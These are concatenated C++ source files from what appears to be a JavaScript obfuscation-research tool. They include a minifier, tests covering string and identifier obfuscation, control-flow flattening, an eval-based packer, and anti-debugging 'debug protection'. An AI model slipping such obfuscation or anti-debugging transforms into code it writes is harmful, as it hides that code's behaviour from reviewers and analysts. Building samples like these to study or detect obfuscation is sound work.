  return node != nullptr && node->kind == NodeKind::kLiteral &&
         node->lit_kind == LiteralKind::kNumber;
}

bool is_string_literal(const Node* node) {
  return node != nullptr && node->kind == NodeKind::kLiteral &&
         node->lit_kind == LiteralKind::kString;
}

bool is_bool_literal(const Node* node) {
  return node != nullptr && node->kind == NodeKind::kLiteral &&
         node->lit_kind == LiteralKind::kBoolean;
}

// Replaces `node` in-place with the content of `replacement`.
void replace_node(Node& node, const Node& replacement) {
  node.kind = replacement.kind;
  node.kids = replacement.kids;
  node.str_value = replacement.str_value;
  node.atom = replacement.atom;
  node.raw = replacement.raw;
  node.num_value = replacement.num_value;
  node.lit_kind = replacement.lit_kind;
  node.flag_a = replacement.flag_a;
  node.flag_b = replacement.flag_b;
  node.flag_c = replacement.flag_c;
}

// Post-order constant folding; returns true if anything changed.
bool fold_constants(Ast& ast, Node* root) {
  bool changed = false;
  walk_postorder(root, [&ast, &changed](Node& node) {
    if (node.kind == NodeKind::kBinaryExpression) {
      Node* left = node.kid(0);
      Node* right = node.kid(1);
      if (is_number_literal(left) && is_number_literal(right)) {
        const double a = left->num_value;
        const double b = right->num_value;
        double result = 0.0;
        bool ok = true;
        const std::string_view op = node.str_value;
        if (op == "+") result = a + b;
        else if (op == "-") result = a - b;
        else if (op == "*") result = a * b;
        else if (op == "/" && b != 0.0) result = a / b;
        else if (op == "%" && b != 0.0) result = std::fmod(a, b);
        else ok = false;
        if (ok && std::isfinite(result)) {
          Node* literal = ast.make_number(result);
          replace_node(node, *literal);
          changed = true;
        }
      } else if (is_string_literal(left) && is_string_literal(right) &&
                 node.str_value == "+") {
        Node* literal = ast.make_string(std::string(left->str_value) +
                                        std::string(right->str_value));
        replace_node(node, *literal);
        changed = true;
      }
    } else if (node.kind == NodeKind::kUnaryExpression) {
      Node* argument = node.kid(0);
      if (node.str_value == "!" && is_bool_literal(argument)) {
        Node* literal = ast.make_bool(argument->num_value == 0.0);
        replace_node(node, *literal);
        changed = true;
      } else if (node.str_value == "-" && is_number_literal(argument) &&
                 argument->num_value == 0.0) {
        Node* literal = ast.make_number(0.0);
        replace_node(node, *literal);
        changed = true;
      }
    }
  });
  return changed;
}

// true -> !0, false -> !1 (expression positions only).
void shorten_booleans(Ast& ast, Node* root) {
  walk_preorder(root, [&ast](Node& node) {
    if (node.kind != NodeKind::kLiteral ||
        node.lit_kind != LiteralKind::kBoolean) {
      return;
    }
    const Node* parent = node.parent;
    if (parent != nullptr &&
        (parent->kind == NodeKind::kProperty ||
         parent->kind == NodeKind::kMethodDefinition) &&
        parent->kid(0) == &node && !parent->flag_a) {
      return;  // literal key position
    }
    Node* zero_or_one = ast.make_number(node.num_value != 0.0 ? 0.0 : 1.0);
    // Arena-allocated (not a stack Node): the kid list needs the arena.
    Node* bang = ast.make(NodeKind::kUnaryExpression);
    bang->str_value = "!";
    bang->flag_a = true;
    bang->kids = {zero_or_one};
    replace_node(node, *bang);
  });
}

// Structural simplifications on statement lists.
void simplify_statements(Ast& ast, Node* root) {
  walk_preorder(root, [&ast](Node& node) {
    // if (a) x(); else y();  ->  a ? x() : y();
    // if (a) x();            ->  a && x();
    if (node.kind == NodeKind::kIfStatement) {
      Node* test = node.kid(0);
      Node* consequent = node.kid(1);
      Node* alternate = node.kid(2);
      const auto single_expression = [](Node* statement) -> Node* {
        if (statement == nullptr) return nullptr;
        if (statement->kind == NodeKind::kExpressionStatement) {
          return statement->kid(0);
        }
        if (statement->kind == NodeKind::kBlockStatement &&
            statement->kids.size() == 1 &&
            statement->kids[0]->kind == NodeKind::kExpressionStatement) {
          return statement->kids[0]->kid(0);
        }
        return nullptr;
      };
      Node* consequent_expression = single_expression(consequent);
      if (consequent_expression == nullptr) return;
      if (alternate != nullptr) {
        Node* alternate_expression = single_expression(alternate);
        if (alternate_expression == nullptr) return;
        Node* ternary = ast.make(NodeKind::kConditionalExpression);
        ternary->kids = {test, consequent_expression, alternate_expression};
        Node* statement = ast.make(NodeKind::kExpressionStatement);
        statement->kids = {ternary};
        replace_node(node, *statement);
      } else {
        Node* logical = ast.make(NodeKind::kLogicalExpression);
        logical->str_value = "&&";
        logical->kids = {test, consequent_expression};
        Node* statement = ast.make(NodeKind::kExpressionStatement);
        statement->kids = {logical};
        replace_node(node, *statement);
      }
    }
  });
}

// Removes empty statements and code after return/throw/break/continue in
// every block; eliminates if(true)/if(false) constant branches; merges
// consecutive `var` declarations.
void clean_statement_lists(Node* root, bool merge_vars) {
  walk_preorder(root, [merge_vars](Node& node) {
    if (node.kind != NodeKind::kProgram &&
        node.kind != NodeKind::kBlockStatement) {
      return;
    }
    std::vector<Node*> rebuilt;
    rebuilt.reserve(node.kids.size());
    bool dead = false;
    for (Node* statement : node.kids) {
      if (statement == nullptr) continue;
      if (dead && statement->kind != NodeKind::kFunctionDeclaration &&
          !(statement->kind == NodeKind::kVariableDeclaration &&
            statement->str_value == "var")) {
        continue;  // unreachable (keep hoisted declarations)
      }
      if (statement->kind == NodeKind::kEmptyStatement) continue;
      // if (false) {...} -> drop (keeping else); if (true) -> keep branch.
      if (statement->kind == NodeKind::kIfStatement &&
          is_bool_literal(statement->kid(0))) {
        Node* branch = statement->kids[0]->num_value != 0.0
                           ? statement->kid(1)
                           : statement->kid(2);
        if (branch == nullptr) continue;
        statement = branch;
      }
      if (merge_vars && !rebuilt.empty() &&
          statement->kind == NodeKind::kVariableDeclaration &&
          rebuilt.back()->kind == NodeKind::kVariableDeclaration &&
          rebuilt.back()->str_value == statement->str_value) {
        rebuilt.back()->kids.insert(rebuilt.back()->kids.end(),
                                    statement->kids.begin(),
                                    statement->kids.end());
        continue;
      }
      rebuilt.push_back(statement);
      switch (statement->kind) {
        case NodeKind::kReturnStatement:
        case NodeKind::kThrowStatement:
        case NodeKind::kBreakStatement:
        case NodeKind::kContinueStatement:
          dead = true;
          break;
        default:
          break;
      }
    }
    node.kids.assign(rebuilt.begin(), rebuilt.end());
  });
}

}  // namespace

std::string minify(std::string_view source, const MinifyOptions& options) {
  ParseResult parsed = parse_program(source);
  Ast& ast = parsed.ast;
  ast.finalize();

  if (options.advanced) {
    // Iterate folding to a fixed point (bounded).
    for (int i = 0; i < 4 && fold_constants(ast, ast.root()); ++i) {
    }
    // Eliminate constant branches before the if->ternary rewrite would
    // turn them into live expressions.
    clean_statement_lists(ast.root(), /*merge_vars=*/false);
    simplify_statements(ast, ast.root());
    ast.finalize();
    clean_statement_lists(ast.root(), /*merge_vars=*/true);
    shorten_booleans(ast, ast.root());
  } else {
    clean_statement_lists(ast.root(), /*merge_vars=*/false);
  }
  ast.finalize();

  if (options.rename_locals) {
    rename_bindings(ast, [](std::size_t ordinal, const std::string&) {
      return short_name(ordinal);
    });
  }

  CodegenOptions codegen_options;
  codegen_options.minify = true;
  codegen_options.minified_line_limit = options.line_limit;
  codegen_options.single_quotes = false;
  return generate(ast.root(), codegen_options);
}

}  // namespace jst::transform
