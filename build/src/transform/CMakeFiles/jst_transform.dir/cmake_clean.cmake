file(REMOVE_RECURSE
  "CMakeFiles/jst_transform.dir/dead_code.cpp.o"
  "CMakeFiles/jst_transform.dir/dead_code.cpp.o.d"
  "CMakeFiles/jst_transform.dir/flatten.cpp.o"
  "CMakeFiles/jst_transform.dir/flatten.cpp.o.d"
  "CMakeFiles/jst_transform.dir/global_array.cpp.o"
  "CMakeFiles/jst_transform.dir/global_array.cpp.o.d"
  "CMakeFiles/jst_transform.dir/identifier_obfuscation.cpp.o"
  "CMakeFiles/jst_transform.dir/identifier_obfuscation.cpp.o.d"
  "CMakeFiles/jst_transform.dir/minify.cpp.o"
  "CMakeFiles/jst_transform.dir/minify.cpp.o.d"
  "CMakeFiles/jst_transform.dir/no_alnum.cpp.o"
  "CMakeFiles/jst_transform.dir/no_alnum.cpp.o.d"
  "CMakeFiles/jst_transform.dir/packer.cpp.o"
  "CMakeFiles/jst_transform.dir/packer.cpp.o.d"
  "CMakeFiles/jst_transform.dir/protection.cpp.o"
  "CMakeFiles/jst_transform.dir/protection.cpp.o.d"
  "CMakeFiles/jst_transform.dir/rename.cpp.o"
  "CMakeFiles/jst_transform.dir/rename.cpp.o.d"
  "CMakeFiles/jst_transform.dir/string_obfuscation.cpp.o"
  "CMakeFiles/jst_transform.dir/string_obfuscation.cpp.o.d"
  "CMakeFiles/jst_transform.dir/technique.cpp.o"
  "CMakeFiles/jst_transform.dir/technique.cpp.o.d"
  "CMakeFiles/jst_transform.dir/transform.cpp.o"
  "CMakeFiles/jst_transform.dir/transform.cpp.o.d"
  "CMakeFiles/jst_transform.dir/unmonitored.cpp.o"
  "CMakeFiles/jst_transform.dir/unmonitored.cpp.o.d"
  "libjst_transform.a"
  "libjst_transform.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/jst_transform.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
