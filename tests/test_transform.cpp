#include <gtest/gtest.h>

#include <algorithm>
#include <set>

#include "ast/walk.h"
#include "corpus/generator.h"
#include "corpus/snippets.h"
#include "codegen/codegen.h"
#include "features/analysis_pipeline.h"
#include "parser/parser.h"
#include "support/strings.h"
#include "transform/rename.h"
#include "transform/transform.h"

namespace jst {
namespace {

using transform::Technique;

const std::string& sample_source() {
  static const std::string kSource = [] {
    corpus::ProgramGenerator generator(2024);
    corpus::GeneratorOptions options;
    options.min_bytes = 1800;
    return generator.generate(options);
  }();
  return kSource;
}

std::size_t count_kind(std::string_view source, NodeKind kind) {
  const ParseResult result = parse_program(source);
  return collect_kind(static_cast<const Node*>(result.ast.root()), kind).size();
}

// --- technique registry ------------------------------------------------

TEST(Technique, NamesRoundTrip) {
  for (Technique technique : transform::all_techniques()) {
    const auto name = transform::technique_name(technique);
    const auto parsed = transform::technique_from_name(name);
    ASSERT_TRUE(parsed.has_value());
    EXPECT_EQ(*parsed, technique);
  }
  EXPECT_FALSE(transform::technique_from_name("nope").has_value());
}

TEST(Technique, FamilySplit) {
  EXPECT_TRUE(transform::is_minification(Technique::kMinificationSimple));
  EXPECT_TRUE(transform::is_minification(Technique::kMinificationAdvanced));
  EXPECT_TRUE(transform::is_obfuscation(Technique::kIdentifierObfuscation));
  EXPECT_TRUE(transform::is_obfuscation(Technique::kDebugProtection));
}

// --- rename utility ----------------------------------------------------

TEST(Rename, ShortNamesAreUniqueAndValid) {
  std::set<std::string> seen;
  for (std::size_t i = 0; i < 1000; ++i) {
    const std::string name = transform::short_name(i);
    EXPECT_TRUE(strings::is_identifier(name)) << name;
    EXPECT_FALSE(is_js_keyword(name)) << name;
    EXPECT_TRUE(seen.insert(name).second) << name;
  }
}

TEST(Rename, HexNameShape) {
  Rng rng(5);
  const std::string name = transform::hex_name(rng);
  EXPECT_EQ(name.substr(0, 3), "_0x");
  EXPECT_EQ(name.size(), 9u);
}

TEST(Rename, RenamesLocalsNotGlobals) {
  ParseResult parsed =
      parse_program("var alpha = 1; console.log(alpha + beta);");
  transform::rename_bindings(parsed.ast,
                             [](std::size_t, const std::string&) {
                               return std::string("renamed");
                             });
  const std::string out = to_minified_source(parsed.ast.root());
  EXPECT_NE(out.find("renamed"), std::string::npos);
  EXPECT_NE(out.find("console"), std::string::npos);  // global untouched
  EXPECT_NE(out.find("beta"), std::string::npos);     // unresolved untouched
  EXPECT_EQ(out.find("alpha"), std::string::npos);
}

// --- identifier obfuscation ---------------------------------------------

TEST(IdentifierObfuscation, OutputParses) {
  Rng rng(1);
  const std::string out = transform::obfuscate_identifiers(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(IdentifierObfuscation, IntroducesHexNames) {
  Rng rng(2);
  transform::IdentifierObfuscationOptions options;
  options.style = transform::IdentifierObfuscationOptions::Style::kHex;
  const std::string out =
      transform::obfuscate_identifiers(sample_source(), rng, options);
  EXPECT_NE(out.find("_0x"), std::string::npos);
}

TEST(IdentifierObfuscation, PreservesStructure) {
  Rng rng(3);
  const std::string out = transform::obfuscate_identifiers(sample_source(), rng);
  // Statement-level structure unchanged.
  EXPECT_EQ(count_kind(out, NodeKind::kIfStatement),
            count_kind(sample_source(), NodeKind::kIfStatement));
  EXPECT_EQ(count_kind(out, NodeKind::kCallExpression),
            count_kind(sample_source(), NodeKind::kCallExpression));
}

TEST(IdentifierObfuscation, ConsistentRenaming) {
  Rng rng(4);
  const std::string source = "var count = 1; count = count + 1; use(count);";
  const std::string out = transform::obfuscate_identifiers(source, rng);
  EXPECT_TRUE(parses(out));
  EXPECT_EQ(out.find("count"), std::string::npos);
}

// --- string obfuscation -------------------------------------------------

TEST(StringObfuscation, OutputParses) {
  Rng rng(5);
  const std::string out = transform::obfuscate_strings(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(StringObfuscation, HexEscapesAppear) {
  Rng rng(6);
  transform::StringObfuscationOptions options;
  options.split_probability = 0.0;
  options.char_code_probability = 0.0;
  options.hex_escape_probability = 1.0;
  const std::string source = R"(var msg = "hello world message";)";
  const std::string out = transform::obfuscate_strings(source, rng, options);
  EXPECT_NE(out.find("\\x"), std::string::npos) << out;
}

TEST(StringObfuscation, SplitsIntoConcatenations) {
  Rng rng(7);
  transform::StringObfuscationOptions options;
  options.split_probability = 1.0;
  options.char_code_probability = 0.0;
  options.hex_escape_probability = 0.0;
  const std::string source = R"(var msg = "a fairly long string literal";)";
  const std::string out = transform::obfuscate_strings(source, rng, options);
  EXPECT_GT(count_kind(out, NodeKind::kBinaryExpression),
            count_kind(source, NodeKind::kBinaryExpression));
}

TEST(StringObfuscation, FromCharCodeAppears) {
  Rng rng(8);
  transform::StringObfuscationOptions options;
  options.split_probability = 0.0;
  options.char_code_probability = 1.0;
  options.hex_escape_probability = 0.0;
  const std::string source = R"(send("abc");)";
  const std::string out = transform::obfuscate_strings(source, rng, options);
  EXPECT_NE(out.find("fromCharCode"), std::string::npos) << out;
  EXPECT_TRUE(parses(out));
}

TEST(StringObfuscation, PropertyKeysPreserved) {
  Rng rng(9);
  transform::StringObfuscationOptions options;
  options.split_probability = 1.0;
  options.char_code_probability = 0.0;
  options.hex_escape_probability = 0.0;
  const std::string source = R"(var o = { "key name": "some long value" };)";
  const std::string out = transform::obfuscate_strings(source, rng, options);
  EXPECT_TRUE(parses(out));
  // The key must survive as a literal.
  EXPECT_NE(out.find("key name"), std::string::npos);
}

// --- global array ---------------------------------------------------------

TEST(GlobalArray, OutputParses) {
  Rng rng(10);
  const std::string out =
      transform::global_array_transform(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(GlobalArray, IntroducesArrayAndAccessor) {
  Rng rng(11);
  const std::string source =
      R"(log("one"); log("two"); log("three"); log("one");)";
  const std::string out = transform::global_array_transform(source, rng);
  EXPECT_TRUE(parses(out));
  EXPECT_EQ(count_kind(out, NodeKind::kArrayExpression), 1u);
  EXPECT_GE(count_kind(out, NodeKind::kFunctionDeclaration), 1u);
  // Plain string literals are replaced by accessor calls.
  EXPECT_GE(count_kind(out, NodeKind::kCallExpression),
            count_kind(source, NodeKind::kCallExpression) + 4u);
}

TEST(GlobalArray, FewStringsLeftAlone) {
  Rng rng(12);
  transform::GlobalArrayOptions options;
  options.min_strings = 5;
  const std::string source = R"(log("only");)";
  const std::string out =
      transform::global_array_transform(source, rng, options);
  EXPECT_EQ(count_kind(out, NodeKind::kArrayExpression), 0u);
}

// --- no alphanumeric -----------------------------------------------------

TEST(NoAlnum, OutputHasOnlySixCharacters) {
  const std::string out = transform::no_alnum_transform("var a = 1;");
  for (char c : out) {
    EXPECT_TRUE(c == '[' || c == ']' || c == '(' || c == ')' || c == '!' ||
                c == '+')
        << "unexpected character '" << c << "'";
  }
}

TEST(NoAlnum, OutputParses) {
  const std::string out = transform::no_alnum_transform("var a = 1; f(a);");
  EXPECT_TRUE(parses(out));
}

TEST(NoAlnum, OutputIsMuchLarger) {
  const std::string source = "x(1);";
  const std::string out = transform::no_alnum_transform(source);
  EXPECT_GT(out.size(), source.size() * 20);
}

TEST(NoAlnum, TruncatesOversizedInput) {
  transform::NoAlnumOptions options;
  options.max_source_bytes = 16;
  const std::string out =
      transform::no_alnum_transform("var abc = 1; var def = 2;", options);
  EXPECT_TRUE(parses(out));
}

// --- dead code ------------------------------------------------------------

TEST(DeadCode, OutputParses) {
  Rng rng(13);
  const std::string out = transform::inject_dead_code(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(DeadCode, GrowsStatementCount) {
  Rng rng(14);
  transform::DeadCodeOptions options;
  options.injection_rate = 0.8;
  const std::string out =
      transform::inject_dead_code(sample_source(), rng, options);
  EXPECT_GT(count_kind(out, NodeKind::kVariableDeclaration) +
                count_kind(out, NodeKind::kIfStatement) +
                count_kind(out, NodeKind::kFunctionDeclaration),
            count_kind(sample_source(), NodeKind::kVariableDeclaration) +
                count_kind(sample_source(), NodeKind::kIfStatement) +
                count_kind(sample_source(), NodeKind::kFunctionDeclaration));
}

TEST(DeadCode, InjectsFalseBranches) {
  Rng rng(15);
  transform::DeadCodeOptions options;
  options.injection_rate = 0.9;
  const std::string out =
      transform::inject_dead_code(sample_source(), rng, options);
  EXPECT_NE(out.find("if(false)"), std::string::npos);
}

TEST(DeadCode, RespectsMaxInjections) {
  Rng rng(16);
  transform::DeadCodeOptions options;
  options.injection_rate = 1.0;
  options.max_injections = 2;
  const std::string source = "a(); b(); c(); d(); e();";
  const std::string out = transform::inject_dead_code(source, rng, options);
  // 5 original expression statements + at most 2 injected items.
  const ParseResult parsed = parse_program(out);
  EXPECT_LE(parsed.ast.root()->kids.size(), 7u);
}

// --- control-flow flattening ----------------------------------------------

TEST(Flatten, OutputParses) {
  Rng rng(17);
  const std::string out =
      transform::flatten_control_flow(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(Flatten, ProducesDispatcherShape) {
  Rng rng(18);
  const std::string source = "a(); b(); c(); d();";
  const std::string out = transform::flatten_control_flow(source, rng);
  EXPECT_TRUE(parses(out));
  EXPECT_EQ(count_kind(out, NodeKind::kWhileStatement), 1u);
  EXPECT_EQ(count_kind(out, NodeKind::kSwitchStatement), 1u);
  EXPECT_EQ(count_kind(out, NodeKind::kSwitchCase), 4u);
  EXPECT_NE(out.find("split"), std::string::npos);
}

TEST(Flatten, ShortListsUntouched) {
  Rng rng(19);
  transform::FlattenOptions options;
  options.min_statements = 5;
  const std::string source = "a(); b();";
  const std::string out =
      transform::flatten_control_flow(source, rng, options);
  EXPECT_EQ(count_kind(out, NodeKind::kSwitchStatement), 0u);
}

TEST(Flatten, PreservesStatementPayloads) {
  Rng rng(20);
  const std::string source = "first(); second(); third();";
  const std::string out = transform::flatten_control_flow(source, rng);
  EXPECT_NE(out.find("first"), std::string::npos);
  EXPECT_NE(out.find("second"), std::string::npos);
  EXPECT_NE(out.find("third"), std::string::npos);
}

TEST(Flatten, FunctionBodiesFlattened) {
  Rng rng(21);
  const std::string source =
      "function work() { one(); two(); three(); four(); }";
  const std::string out = transform::flatten_control_flow(source, rng);
  EXPECT_EQ(count_kind(out, NodeKind::kSwitchStatement), 1u);
}

// --- protection -----------------------------------------------------------

TEST(SelfDefending, OutputParsesAndIsMinified) {
  Rng rng(22);
  const std::string out = transform::add_self_defending(sample_source(), rng);
  EXPECT_TRUE(parses(out));
  // Minified: far fewer newlines than the pretty original.
  EXPECT_LT(strings::count_lines(out),
            strings::count_lines(sample_source()) / 2);
}

TEST(SelfDefending, ContainsSignatureMarkers) {
  Rng rng(23);
  const std::string out = transform::add_self_defending(sample_source(), rng);
  EXPECT_NE(out.find("RegExp"), std::string::npos);
  EXPECT_NE(out.find("constructor"), std::string::npos);
  EXPECT_NE(out.find("apply"), std::string::npos);
}

TEST(DebugProtection, OutputParses) {
  Rng rng(24);
  const std::string out =
      transform::add_debug_protection(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(DebugProtection, ContainsDebuggerPump) {
  Rng rng(25);
  const std::string out =
      transform::add_debug_protection(sample_source(), rng);
  EXPECT_NE(out.find("debugger"), std::string::npos);
  EXPECT_NE(out.find("setInterval"), std::string::npos);
}

// --- minification -----------------------------------------------------------

TEST(Minify, SimpleOutputParses) {
  const std::string out = transform::minify(sample_source());
  EXPECT_TRUE(parses(out));
}

TEST(Minify, ShrinksSource) {
  const std::string out = transform::minify(sample_source());
  EXPECT_LT(out.size(), sample_source().size() * 3 / 4);
}

TEST(Minify, RemovesComments) {
  const std::string out = transform::minify("// comment\nvar a = 1; /* b */");
  EXPECT_EQ(out.find("comment"), std::string::npos);
}

TEST(Minify, ShortensIdentifiers) {
  const std::string out =
      transform::minify("var veryLongVariableName = 1; use(veryLongVariableName);");
  EXPECT_EQ(out.find("veryLongVariableName"), std::string::npos);
}

TEST(Minify, AdvancedFoldsConstants) {
  transform::MinifyOptions options;
  options.advanced = true;
  const std::string out = transform::minify("var a = 2 + 3 * 4;", options);
  EXPECT_NE(out.find("14"), std::string::npos) << out;
}

TEST(Minify, AdvancedFoldsStringConcat) {
  transform::MinifyOptions options;
  options.advanced = true;
  const std::string out = transform::minify(R"(var s = "a" + "b";)", options);
  EXPECT_NE(out.find("\"ab\""), std::string::npos) << out;
}

TEST(Minify, AdvancedShortensBooleans) {
  transform::MinifyOptions options;
  options.advanced = true;
  const std::string out = transform::minify("var t = true, f = false;", options);
  EXPECT_NE(out.find("!0"), std::string::npos);
  EXPECT_NE(out.find("!1"), std::string::npos);
}

TEST(Minify, AdvancedIfToTernary) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out =
      transform::minify("if (cond) doA(); else doB();", options);
  EXPECT_NE(out.find('?'), std::string::npos) << out;
  EXPECT_TRUE(parses(out));
}

TEST(Minify, AdvancedIfToLogicalAnd) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out = transform::minify("if (cond) doA();", options);
  EXPECT_NE(out.find("&&"), std::string::npos) << out;
}

TEST(Minify, AdvancedDropsUnreachable) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out = transform::minify(
      "function f() { return 1; afterwards(); }", options);
  EXPECT_EQ(out.find("afterwards"), std::string::npos) << out;
}

TEST(Minify, AdvancedEliminatesConstantBranches) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out = transform::minify(
      "if (false) { neverRuns(); } alwaysRuns();", options);
  EXPECT_EQ(out.find("neverRuns"), std::string::npos) << out;
  EXPECT_NE(out.find("alwaysRuns"), std::string::npos);
}

TEST(Minify, AdvancedMergesVarDeclarations) {
  transform::MinifyOptions options;
  options.advanced = true;
  options.rename_locals = false;
  const std::string out = transform::minify("var a = 1; var b = 2;", options);
  EXPECT_EQ(count_kind(out, NodeKind::kVariableDeclaration), 1u);
}

// --- packer -----------------------------------------------------------------

TEST(Packer, OutputParses) {
  Rng rng(26);
  const std::string out = transform::pack(sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(Packer, HasEvalBootstrap) {
  Rng rng(27);
  const std::string out = transform::pack(sample_source(), rng);
  EXPECT_EQ(out.rfind("eval(function(p,a,c,k,e,d)", 0), 0u) << out.substr(0, 60);
  EXPECT_NE(out.find(".split('|')"), std::string::npos);
}

TEST(Packer, LabelsMatchPaperFinding) {
  const auto labels = transform::packer_labels();
  EXPECT_EQ(labels.size(), 4u);
  EXPECT_NE(std::find(labels.begin(), labels.end(),
                      Technique::kMinificationAdvanced),
            labels.end());
  EXPECT_NE(std::find(labels.begin(), labels.end(),
                      Technique::kIdentifierObfuscation),
            labels.end());
}

// --- dispatcher ---------------------------------------------------------------

TEST(ApplyTechnique, AllTechniquesProduceParseableOutput) {
  for (Technique technique : transform::all_techniques()) {
    Rng rng(static_cast<std::uint64_t>(technique) + 100);
    const std::string out =
        transform::apply_technique(technique, sample_source(), rng);
    EXPECT_TRUE(parses(out)) << transform::technique_name(technique);
    EXPECT_FALSE(out.empty());
  }
}

TEST(ApplyTechniques, SequentialComposition) {
  Rng rng(30);
  const std::vector<Technique> sequence = {Technique::kStringObfuscation,
                                           Technique::kMinificationSimple};
  const std::string out =
      transform::apply_techniques(sequence, sample_source(), rng);
  EXPECT_TRUE(parses(out));
}

TEST(LabelsProduced, CombinedTechniques) {
  const auto flattening =
      transform::labels_produced(Technique::kControlFlowFlattening);
  EXPECT_EQ(flattening.size(), 3u);
  const auto advanced =
      transform::labels_produced(Technique::kMinificationAdvanced);
  EXPECT_EQ(advanced.size(), 2u);
  const auto identifier =
      transform::labels_produced(Technique::kIdentifierObfuscation);
  EXPECT_EQ(identifier.size(), 1u);
  // No configuration yields more than three labels (paper §III-E1).
  for (Technique technique : transform::all_techniques()) {
    EXPECT_LE(transform::labels_produced(technique).size(), 3u);
  }
}

TEST(Transforms, SeedSnippetsSurviveEveryTechnique) {
  for (std::string_view snippet : corpus::seed_snippets()) {
    for (Technique technique : transform::all_techniques()) {
      if (technique == Technique::kNoAlphanumeric && snippet.size() > 4096) {
        continue;  // keep the test fast
      }
      Rng rng(strings::fnv1a(snippet) ^ static_cast<std::uint64_t>(technique));
      const std::string out =
          transform::apply_technique(technique, snippet, rng);
      EXPECT_TRUE(parses(out))
          << transform::technique_name(technique) << " on snippet "
          << snippet.substr(0, 40);
    }
  }
}

}  // namespace
}  // namespace jst
