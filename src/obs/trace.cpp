#include "obs/trace.h"

#include <algorithm>
#include <atomic>
#include <cstdio>
#include <cstring>
#include <ostream>
#include <string>
#include <thread>

#include "obs/request_context.h"

namespace jst::obs {
namespace {

std::atomic<TraceSink*> g_sink{nullptr};
// Spans currently holding a sink pointer (between span_acquire_sink and
// span_release_sink). set_trace_sink drains this to zero after swapping,
// so no span can write to a sink the caller is about to destroy — e.g. a
// pool worker whose pool.task span closes just after parallel_for's
// barrier released the caller.
std::atomic<std::uint64_t> g_open_spans{0};

std::chrono::steady_clock::time_point trace_epoch() {
  static const auto kEpoch = std::chrono::steady_clock::now();
  return kEpoch;
}

}  // namespace

void TraceSink::write_complete_event(const char* name, double ts_us,
                                     double dur_us, std::uint32_t tid,
                                     const char* rid) {
  char line[320];
  int written;
  if (rid != nullptr && rid[0] != '\0') {
    written = std::snprintf(
        line, sizeof(line),
        "{\"name\":\"%s\",\"cat\":\"jst\",\"ph\":\"X\",\"ts\":%.3f,"
        "\"dur\":%.3f,\"pid\":1,\"tid\":%u,\"args\":{\"rid\":\"%s\"}}\n",
        name, ts_us, dur_us, tid, rid);
  } else {
    written = std::snprintf(
        line, sizeof(line),
        "{\"name\":\"%s\",\"cat\":\"jst\",\"ph\":\"X\",\"ts\":%.3f,"
        "\"dur\":%.3f,\"pid\":1,\"tid\":%u}\n",
        name, ts_us, dur_us, tid);
  }
  if (written <= 0) return;
  std::lock_guard<std::mutex> lock(mutex_);
  out_->write(line, std::min<std::size_t>(static_cast<std::size_t>(written),
                                          sizeof(line) - 1));
  ++events_;
}

TraceSink* set_trace_sink(TraceSink* sink) {
  // Force the epoch before any span can read the clock, so ts values are
  // stable relative to the first attach.
  trace_epoch();
  TraceSink* previous = g_sink.exchange(sink, std::memory_order_seq_cst);
  // Drain in-flight spans before returning: seq_cst on the exchange and
  // the acquire/registration below means every concurrent span either
  // observes the new pointer or is counted in g_open_spans here. Once the
  // count hits zero the previous sink is unreachable and safe to destroy.
  // (Don't call this while the calling thread holds an open span.)
  while (g_open_spans.load(std::memory_order_seq_cst) != 0) {
    std::this_thread::yield();
  }
  return previous;
}

TraceSink* trace_sink() { return g_sink.load(std::memory_order_acquire); }

TraceSink* span_acquire_sink() {
  // Fast path: tracing disabled — one relaxed load, as before.
  if (g_sink.load(std::memory_order_relaxed) == nullptr) return nullptr;
  // Register as a writer BEFORE re-reading the pointer (both seq_cst, the
  // store-buffering pair with set_trace_sink's exchange-then-drain).
  g_open_spans.fetch_add(1, std::memory_order_seq_cst);
  TraceSink* sink = g_sink.load(std::memory_order_seq_cst);
  if (sink == nullptr) {
    g_open_spans.fetch_sub(1, std::memory_order_seq_cst);
  }
  return sink;
}

void span_release_sink() {
  g_open_spans.fetch_sub(1, std::memory_order_seq_cst);
}

void span_capture_request_id(char* out) {
  const std::string_view rid = current_request_id();
  const std::size_t n = rid.size() < 16 ? rid.size() : 16;
  std::memcpy(out, rid.data(), n);
  out[n] = '\0';
}

std::uint32_t trace_thread_id() {
  static std::atomic<std::uint32_t> next{0};
  thread_local const std::uint32_t id =
      next.fetch_add(1, std::memory_order_relaxed);
  return id;
}

double trace_now_us() {
  return std::chrono::duration<double, std::micro>(
             std::chrono::steady_clock::now() - trace_epoch())
      .count();
}

}  // namespace jst::obs
