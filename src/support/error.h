// Error types shared across jstraced modules.
#pragma once

#include <stdexcept>
#include <string>

namespace jst {

// Raised when JavaScript input cannot be tokenized or parsed.
class ParseError : public std::runtime_error {
 public:
  ParseError(std::string message, std::size_t line, std::size_t column)
      : std::runtime_error(message + " (line " + std::to_string(line) +
                           ", column " + std::to_string(column) + ")"),
        line_(line),
        column_(column) {}

  std::size_t line() const noexcept { return line_; }
  std::size_t column() const noexcept { return column_; }

 private:
  std::size_t line_;
  std::size_t column_;
};

// Raised on API misuse (violated preconditions that are caller bugs).
class InvalidArgument : public std::invalid_argument {
 public:
  using std::invalid_argument::invalid_argument;
};

// Raised when a model is used before training or with mismatched dimensions.
class ModelError : public std::logic_error {
 public:
  using std::logic_error::logic_error;
};

}  // namespace jst
