// JavaScript tokenizer.
//
// A hand-written scanner covering the ES2017 subset jstraced works with:
// identifiers (ASCII + $ + _ + \uXXXX escapes passed through), all numeric
// literal forms, single/double-quoted strings with escapes, template
// literals (scanned as one composite token with balanced ${...}
// substitution extraction), regular expression literals (disambiguated
// from division by previous-token context, as in Esprima's tokenizer),
// comments (line, block, and HTML-comment-like `<!--`), and the full
// punctuator set.
//
